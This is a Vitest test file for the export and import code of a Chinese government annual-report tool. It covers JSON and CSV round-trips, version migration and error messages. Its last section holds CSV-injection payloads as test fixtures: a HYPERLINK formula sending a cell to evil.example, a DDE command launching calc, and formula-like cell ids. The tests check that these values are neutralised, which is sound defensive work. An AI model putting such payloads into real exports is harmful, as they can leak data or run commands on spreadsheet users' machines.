import { describe, expect, it } from 'vitest';
import { parseCsv, parseJson, splitCsv, toCsv, toJson, type SavedReport } from '@/lib/store';

const a: SavedReport = {
  version: 2, site: 'cms.example.gov.cn', body: '某区人民政府办公室', year: 2022, format: 'gov2021',
  values: { 'apply.new.total': 29, 'apply.carried.total': null, 'active.fee.amount': 1.25, 'apply.carryForward.natural': 3 },
  source: 'https://www.example.gov.cn/a,b "c".html', savedAt: '2023-01-20T08:00:00.000Z',
};
const b: SavedReport = {
  version: 2, site: '', body: '某县统计局', year: 2018, format: 'gov2014',
  values: { 'c.active.total': 976, 'c.channels.website': 927, 'c.active.total.cumulative': 5000 },
  source: 'seed 001', savedAt: '2019-03-01T00:00:00.000Z', title: '2018年政府信息公开工作年度报告',
};

describe('JSON export', () => {
  it('round-trips exactly', () => {
    expect(parseJson(toJson([a, b]))).toEqual({ reports: [a, b], problems: [] });
  });

  it('imports good entries and names the bad one', () => {
    const file = JSON.parse(toJson([a, b]));
    file.reports.splice(1, 0, { ...a, year: 'x' });
    const r = parseJson(JSON.stringify(file));
    expect(r.reports).toEqual([a, b]);
    expect(r.problems).toEqual([expect.stringMatching(/^第 2 份报告未导入：.*年度/)]);
  });

  it('migrates v1 entries found in an old export', () => {
    const file = { app: 'nianbao-zhushou', kind: 'saved-reports', reports: [{ version: 1, site: '', unit: '某县统计局', year: 2021, format: 'gov2021', values: {}, source: 'x', savedAt: 0 }] };
    expect(parseJson(JSON.stringify(file)).reports[0]).toMatchObject({ version: 2, body: '某县统计局' });
  });

  it('reads the command line --json output; a file naming no office leaves the office empty, to be asked', () => {
    const cli = { reports: [{ source: 'r.html', year: 2022, format: 'gov2021', values: { 'apply.new.total': 8 }, findings: [] }] };
    const r = parseJson(JSON.stringify(cli), { site: 'cms.gov.cn' });
    expect(r.reports[0]).toMatchObject({ body: '', site: 'cms.gov.cn', year: 2022, values: { 'apply.new.total': 8 }, source: 'r.html' });
    const saved = { app: 'nianbao-zhushou', kind: 'saved-reports', reports: [{ ...a, body: '' }] };
    expect(parseJson(JSON.stringify(saved)).reports[0]).toMatchObject({ body: '', values: a.values });
  });

  it('keeps ids outside the format\'s catalogue out of the values, in the record\'s unread list, with a message', () => {
    const file = { reports: [{ source: 'x', year: 2022, format: 'gov2021', values: { 'apply.new.total': 8, '=HYPERLINK("http://x","y")': 1, 'made.up': 3 } }] };
    const r = parseJson(JSON.stringify(file));
    expect(r.reports[0]!.values).toEqual({ 'apply.new.total': 8 });
    expect(r.reports[0]!.unread).toEqual([{ cell: '=HYPERLINK("http://x","y")', value: '1' }, { cell: 'made.up', value: '3' }]);
    expect(r.problems).toEqual([expect.stringMatching(/有 2 个单元格不属于2021年版统计表.*没有导入/)]);
    const exported = JSON.parse(toJson([{ ...a, values: { ...a.values, 'evil.cell': 1 } }]));
    expect(parseJson(JSON.stringify(exported)).reports[0]!.values).toEqual(a.values);
  });

  it('explains corrupt JSON and foreign JSON', () => {
    expect(parseJson('{"app": "nianbao-zhushou", "reports": [').problems[0]).toMatch(/^JSON 文件无法读取：文件内容不完整或已损坏/);
    expect(parseJson('{"a": [1,}').problems[0]!.replace(/^JSON/, '')).not.toMatch(/[A-Za-z]/);
    expect(parseJson('{"name": "package"}').problems[0]).toMatch(/不是年报助手导出的数据/);
    expect(parseJson('{"app":"nianbao-zhushou","kind":"saved-reports","reports":[]}').problems[0]).toMatch(/没有任何报告/);
  });
});

describe('CSV export', () => {
  it('round-trips exactly, blanks stay blank (not 0)', () => {
    const csv = toCsv([a, b]);
    expect(csv.startsWith('\uFEFF单位名称,网站,年度,表格式样,表,项目,数值,来源,保存时间\r\n')).toBe(true);
    expect(csv).toContain('某区人民政府办公室,cms.example.gov.cn,2022,2021年版统计表,表三,一、本年新收政府信息公开申请数量·总计,29,');
    expect(csv).toContain(',统计表,（一）主动公开政府信息数·历年累计,5000,');
    const back = parseCsv(csv);
    expect(back.problems).toEqual([]);
    expect(back.reports).toEqual([a, { ...b, title: undefined }].map(({ title: _t, ...r }) => r));
    expect(back.reports[0]!.values['apply.carried.total']).toBeNull();
  });

  it('writes the saved time in local time, to the second (not UTC ISO), and reads it back', () => {
    const at = new Date(2023, 0, 20, 16, 5, 9);
    const csv = toCsv([{ ...a, savedAt: at.toISOString() }]);
    expect(csv).toContain(',2023-01-20 16:05:09\r\n');
    expect(csv).not.toMatch(/\d{4}-\d\d-\d\dT/);
    expect(parseCsv(csv).reports[0]!.savedAt).toBe(at.toISOString());
  });

  it('lists the cells in the printed table order whatever order they were saved in, and names the edit page in Chinese', () => {
    const shuffled = { ...a, source: 'page', values: { 'apply.carryForward.natural': 3, 'active.fee.amount': 1.25, 'apply.new.total': 29, 'active.regulation.issued': 2 } };
    const items = splitCsv(toCsv([shuffled]))!.slice(1).map((r) => `${r[4]}·${r[5]}`);
    expect(items.map((i) => i.split('·')[0])).toEqual(['表二', '表二', '表三', '表三']);
    expect(items[0]).toBe('表二·规章·本年制发件数');
    expect(items[2]).toBe('表三·一、本年新收政府信息公开申请数量·总计');
    expect(items[3]).toMatch(/^表三·四、结转下年度继续办理·自然人$/);
    expect(splitCsv(toCsv([shuffled]))![1]![7]).toBe('编辑页面');
    expect(parseCsv(toCsv([shuffled])).reports[0]).toMatchObject({ source: 'page', values: shuffled.values });
  });

  it('reads back a local table (items named by position) and an older export with cell ids and ISO times', () => {
    const local: SavedReport = { ...b, format: 'local', year: 2012, values: { 'local.1': 10, 'local.1.1': 4, 'local.1.2': 6, 'local.2': 30 }, title: undefined };
    const csv = toCsv([local]);
    expect(csv).toContain(',统计表,第1项之2,6,');
    expect(csv).toContain(',统计表,第2项,30,');
    expect(parseCsv(csv).reports[0]!.values).toEqual(local.values);
    const old = '单位名称,网站,年度,表格式样,单元格编号,项目,数值,来源,保存时间\r\n某镇,,2022,gov2021,apply.new.total,表三·一、本年新收政府信息公开申请数量·总计,4,page,2023-01-20T08:00:00.000Z\r\n';
    expect(parseCsv(old).reports[0]).toMatchObject({ format: 'gov2021', values: { 'apply.new.total': 4 }, savedAt: '2023-01-20T08:00:00.000Z' });
  });

  it('splits quoted fields with commas, quotes and line breaks', () => {
    expect(splitCsv('x,"a,b","say ""hi""","line\nbreak"\r\n1,2,3,4')).toEqual([
      ['x', 'a,b', 'say "hi"', 'line\nbreak'],
      ['1', '2', '3', '4'],
    ]);
    expect(splitCsv('a,"open')).toBeNull();
  });

  it('reads a short hand-made CSV (cell,value) with body and year given, and skips a non-number', () => {
    const r = parseCsv('单元格编号,数值\napply.new.total,"1,024"\napply.carried.total,约3\n', { year: 2022 });
    expect(r.reports).toEqual([expect.objectContaining({ body: '', year: 2022, format: 'gov2021', values: { 'apply.new.total': 1024 } })]);
    expect(r.problems).toEqual(['第 3 行的数值「约3」不是数字，已跳过']);
  });

  it('explains a CSV of another kind and a CSV without year', () => {
    expect(parseCsv('姓名,电话\n张三,123').problems[0]).toMatch(/缺少「项目」和「数值」/);
    expect(parseCsv('单元格编号,数值\napply.new.total,3').problems[0]).toMatch(/未导入：.*年度/);
  });
});

describe('CSV export is inert in a spreadsheet', () => {
  const evil: SavedReport = {
    ...a, body: '=HYPERLINK("http://evil.example/?"&A1,"点此")', source: '+cmd|\' /C calc\'!A0', title: undefined,
    values: { 'apply.new.total': -3, 'apply.carried.total': 2 },
  };
  it('every cell starting with = + - @ tab or CR gets an apostrophe (OWASP), and reads back unchanged', () => {
    const { title: _t, ...plain } = evil;
    const csv = toCsv([{ ...plain, site: '@SUM(1+1)*cmd', savedAt: '\t2023-01-01T00:00:00.000Z' }]);
    const cells = splitCsv(csv)!.slice(1).flat();
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${evil.body}`);
    expect(cells).toContain(`'-3`);
    expect(cells).toContain(`'@SUM(1+1)*cmd`);
    const back = parseCsv(csv).reports[0]!;
    expect(back).toMatchObject({ body: evil.body, site: '@SUM(1+1)*cmd', source: evil.source, values: evil.values });
  });

  it('a CSV import carrying formulas as cell ids is not re-exported as formulas', () => {
    const r = parseCsv('单位名称,年度,表格式样,单元格编号,数值\n某镇,2022,gov2021,"=HYPERLINK(""http://x"")",1\n某镇,2022,gov2021,apply.new.total,4\n');
    expect(r.reports[0]!.values).toEqual({ 'apply.new.total': 4 });
    expect(r.reports[0]!.unread).toEqual([{ cell: '=HYPERLINK("http://x")', value: '1' }]);
    expect(r.problems[0]).toMatch(/「某镇」2022 年的数据中有 1 个单元格不属于/);
    expect(toCsv(r.reports)).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
